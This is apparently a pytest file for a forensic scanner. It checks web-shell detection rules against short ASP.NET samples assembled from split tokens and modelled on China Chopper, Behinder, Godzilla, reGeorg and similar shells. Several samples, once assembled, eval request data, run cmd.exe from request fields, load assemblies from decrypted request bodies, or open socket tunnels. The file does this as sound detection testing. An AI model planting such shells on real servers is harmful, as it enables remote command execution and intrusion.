"""Web-shell content rules for every ASP.NET handler form, on samples built at test time.

The samples are written with «TOKEN» placeholders for the words the rules look for and filled in
when the test runs, so no file of the repository carries a web-shell signature. Each sample is our
own few lines in the shape the public write-ups describe (China Chopper, AntSword, ASPXSpy,
Godzilla, Behinder, reGeorg/Neo-reGeorg, Tunna, web.config shells); none is a working tool.
"""

from __future__ import annotations

from pathlib import Path

import pytest

from exhunt.rules.yara import compile_rules, match
from exhunt.scan import ScanOptions, scan
from exhunt.synth import files as synth_files
from tests.conftest import shared_path, write

TOKENS = {
    "REQ": "Re" + "quest", "EVAL": "ev" + "al", "LOAD": "Assembly" + ".Lo" + "ad", "B64": "FromBase" + "64String",
    "PSI": "ProcessStart" + "Info", "CMD": "cm" + "d.exe", "SOCK": "System.Net." + "Sockets", "UNSAFE": "uns" + "afe",
    "PSTART": "Process" + ".Start", "WM": "Web" + "Method", "IH": "IHttp" + "Handler", "SPY": "ASPX" + "Spy",
    "SO": "Soc" + "ket", "TC": "Tcp" + "Client", "CONN": "Conn" + "ect", "WS": "Web" + "Service", "APP": "Appli" + "cation",
    "CFG": ".con" + "fig", "ASPDLL": "asp" + ".dll", "CO": "compiler" + "Options", "RUNAT": "run" + "at",
    "PCT": "<" + "%", "GETFILES": "Directory" + ".GetFiles", "REDIR": "Redirect" + "StandardOutput",
    "XCMD": "X-" + "CMD", "SESS": "Sess" + "ion", "APPL": "Appli" + "cation", "FCC": "fromChar" + "Code",
    "DECR": "Create" + "Decryptor",
}  # fmt: skip


def fill(template: str) -> bytes:
    for key, value in TOKENS.items():
        template = template.replace(f"«{key}»", value)
    return template.encode()


SHELLS = {
    # China Chopper: one JScript line evaluating a request item
    "chopper.aspx": ('«PCT»@ Page Language="Jscript"%>«PCT»«EVAL»(«REQ».Item["k"],"«UNSAFE»");%>',
                     "exhunt_eval_request_data"),
    # AntSword's base64 wrapper, without the unsafe flag
    "ant.aspx": ('«PCT»@ Page Language="Jscript"%>«PCT»«EVAL»(System.Text.Encoding.GetEncoding(936).GetString('
                 'System.Convert.«B64»(«REQ».Item["ant"])));%>', "exhunt_eval_request_data"),
    # char-code obfuscation of the evaluated string
    "cc.aspx": ('«PCT»@ Page Language="JScript" %>«PCT» var s = String.«FCC»(82,101,113); «EVAL»(String.«FCC»'
                '(s.charCodeAt(0))); %>', "exhunt_eval_request_data"),
    # Behinder: AES-decrypted body loaded as an assembly
    "behinder.aspx": ('«PCT»@ Page Language="C#" %>«PCT»@Import Namespace="System.Reflection"%>«PCT»Session.Add("k","e45e329f");'
                      'byte[] k = Encoding.Default.GetBytes(«SESS»[0] + ""), c = «REQ».BinaryRead(«REQ».ContentLength);'
                      '«LOAD»(new System.Security.Cryptography.RijndaelManaged().«DECR»(k, k).TransformFinalBlock'
                      '(c, 0, c.Length)).CreateInstance("U").Equals(this);%>', "exhunt_assembly_load_request"),
    # Godzilla: base64 of a request field, XOR-decoded, loaded and kept in the session
    "godzilla.ashx": ('«PCT»@ WebHandler Language="C#" Class="H" %>\nusing System; using System.Web;\n'
                      'public class H : «IH» { public bool IsReusable { get { return false; } }\n'
                      'public void ProcessRequest(HttpContext ctx) { byte[] d = Convert.«B64»(ctx.«REQ».Form["pass"]);'
                      ' for (int i = 0; i < d.Length; i++) d[i] = (byte)(d[i] ^ key[i + 1 & 15]);\n'
                      ' ctx.«SESS»["payload"] = System.Reflection.«LOAD»(d); } }', "exhunt_assembly_load_request"),
    # a command page: cmd.exe with a request field, output returned
    "cmd.aspx": ('«PCT»@ Page Language="C#" %><script «RUNAT»="server">void Page_Load(object s, EventArgs e) {'
                 ' var p = new System.Diagnostics.«PSI»("«CMD»", "/c " + «REQ».Form["c"]);'
                 ' p.«REDIR» = true; p.UseShellExecute = false;'
                 ' Response.Write(System.Diagnostics.«PSTART»(p).StandardOutput.ReadToEnd()); }</script>',
                 "exhunt_command_exec_request"),
    # «SPY»-style toolkit page
    "spy.aspx": ('«PCT»@ Page Language="C#" %><title>«SPY»</title><script «RUNAT»="server">'
                 'void List(string p) { foreach (var f in System.IO.«GETFILES»(p)) Response.Write(f); }</script>',
                 "exhunt_aspxspy_toolkit"),
    # reGeorg: socket kept in the session, «XCMD» header verbs
    "tunnel.aspx": ('«PCT»@ Page Language="C#" %>«PCT»@ Import Namespace="«SOCK»" %>«PCT» string cmd = «REQ».Headers["«XCMD»"];'
                    ' if (cmd == "CONNECT") { Socket s = new «SO»(AddressFamily.InterNetwork, SocketType.Stream, '
                    'ProtocolType.Tcp); s.«CONN»(target, port); «SESS»["socket"] = s; }'
                    ' else if (cmd == "FORWARD") { } else if (cmd == "DISCONNECT") { } %>',
                    "exhunt_socket_tunnel_request"),
    # Tunna-like: TcpClient fed from the request body, stored in the application
    "tunna.aspx": ('«PCT»@ Page Language="C#" %>«PCT» var c = new «TC»(); c.Begin«CONN»(«REQ».QueryString["ip"], 3389,'
                   ' null, null); «APPL»["c"] = c; %>', "exhunt_socket_tunnel_request"),
    # .asmx web service running commands from a method argument
    "svc.asmx": ('«PCT»@ «WS» Language="C#" Class="S" %>\nusing System.Web.Services;\npublic class S : «WS» {\n'
                 '[«WM»] public string Run(string a) { var p = System.Diagnostics.«PSTART»("«CMD»", "/c " + a);'
                 ' return "ok"; } }', "exhunt_handler_exec"),
    # Global.asax hooking every request
    "Global.asax": ('«PCT»@ Application Language="C#" %><script «RUNAT»="server">\nvoid «APP»_BeginRequest(object s,'
                    ' EventArgs e) { var x = Context.«REQ».Headers["X-K"]; if (x != null) System.Reflection.«LOAD»('
                    'Convert.«B64»(x)); }\n</script>', "exhunt_handler_exec"),
    # Razor page
    "view.cshtml": ('@using System.Diagnostics\n@{ var p = new «PSI»("«CMD»", "/c " + «REQ»["c"]);'
                    ' p.«REDIR» = true; var o = «PSTART»(p).StandardOutput.ReadToEnd(); }\n<pre>@o</pre>',
                    "exhunt_command_exec_request"),
    # web.config that serves itself as a classic ASP page
    "web.config": ('<?xml version="1.0" encoding="UTF-8"?>\n<configuration><system.webServer><handlers accessPolicy='
                   '"Read, Script, Write"><add name="web_config" path="*«CFG»" verb="*" modules="IsapiModule" '
                   'scriptProcessor="%windir%\\system32\\inetsrv\\«ASPDLL»" resourceType="Unspecified" /></handlers>'
                   '<security><requestFiltering><fileExtensions><remove fileExtension="«CFG»" /></fileExtensions>'
                   '</requestFiltering></security></system.webServer></configuration>\n'
                   '«PCT» Response.Write(CreateObject("WScript.Shell").Exec("«CMD» /c " & «REQ»("c")).StdOut.ReadAll()) %>',
                   "exhunt_config_serves_itself"),
    # web.config pulling an assembly in through compiler options
    "compiler.config": ('<configuration><system.codedom><compilers><compiler language="c#" extension=".cs" type='
                        '"Microsoft.CSharp.CSharpCodeProvider" «CO»="/r:C:\\ProgramData\\x\\a.dll" />'
                        '</compilers></system.codedom></configuration>', "exhunt_config_compiler_injection"),
}  # fmt: skip

BENIGN = {
    "plain.asmx": '«PCT»@ «WS» Language="C#" CodeBehind="Svc.asmx.cs" Class="Corp.Svc" %>',
    "Global.asax": '«PCT»@ Application Codebehind="Global.asax.cs" Inherits="Corp.Global" Language="C#" %>',
    "routes.asax": ('«PCT»@ Application Language="C#" %><script «RUNAT»="server">void «APP»_Start(object s, EventArgs e)'
                    ' { RouteTable.Routes.MapPageRoute("home", "", "~/default.aspx"); }</script>'),
    "roslyn.config": ('<configuration><system.codedom><compilers><compiler language="c#;cs;csharp" extension=".cs" '
                      'type="Microsoft.CodeDom.Providers.DotNetCompilerPlatform.CSharpCodeProvider" warningLevel="4" '
                      '«CO»="/langversion:default /nowarn:1659;1699;1701" /></compilers></system.codedom>'
                      '</configuration>'),
    "search.cshtml": '@{ var q = Request["q"]; }\n<p>Results for @q</p>',
    "client.aspx": ('«PCT»@ Page Language="C#" %><html><script type="text/javascript">var s = eval("(" + json + ")");'
                    '</script></html>'),
}  # fmt: skip


@pytest.fixture(scope="module")
def rules():
    return compile_rules()


@pytest.mark.parametrize("name", sorted(SHELLS))
def test_each_shell_form_matches_its_rule(rules, name: str):
    text, rule = SHELLS[name]
    assert f"exhunt:{rule}" in match(rules, fill(text)).names


@pytest.mark.parametrize("name", sorted(BENIGN))
def test_ordinary_pages_and_configs_match_nothing(rules, name: str):
    assert match(rules, fill(BENIGN[name])).names == []


def test_standard_exchange_pages_match_nothing(rules):
    for name, (cls, title, text) in synth_files.STANDARD_OWA_AUTH.items():
        page = synth_files._PAGE.format(cls=cls, title=title, text=text)
        assert match(rules, page.encode()).names == [], name


def test_benign_exchange_configuration_matches_nothing(rules):
    root = shared_path("data", "exchange-config")
    checked = 0
    for p in sorted(root.rglob("*")):
        if p.is_file():
            checked += 1
            assert match(rules, p.read_bytes()).names == [], p
    assert checked > 20


def test_the_content_finding_names_every_form(collection: Path):
    web = "EXCH01/C/Program Files/Microsoft/Exchange Server/V15/FrontEnd/HttpProxy/owa/auth"
    for name, (text, _) in SHELLS.items():
        write(collection, f"{web}/forms/{name}", fill(text))
    for name, text in BENIGN.items():
        write(collection, f"{web}/ok/{name}", fill(text))
    result = scan(collection, ScanOptions())
    flagged = {e.path.rsplit("/", 2)[-2] + "/" + e.path.rsplit("/", 1)[-1]
               for f in result.findings if f.rule.id == "file-webshell-content" for e in f.evidence}  # fmt: skip
    assert flagged == {f"forms/{n}" for n in SHELLS}
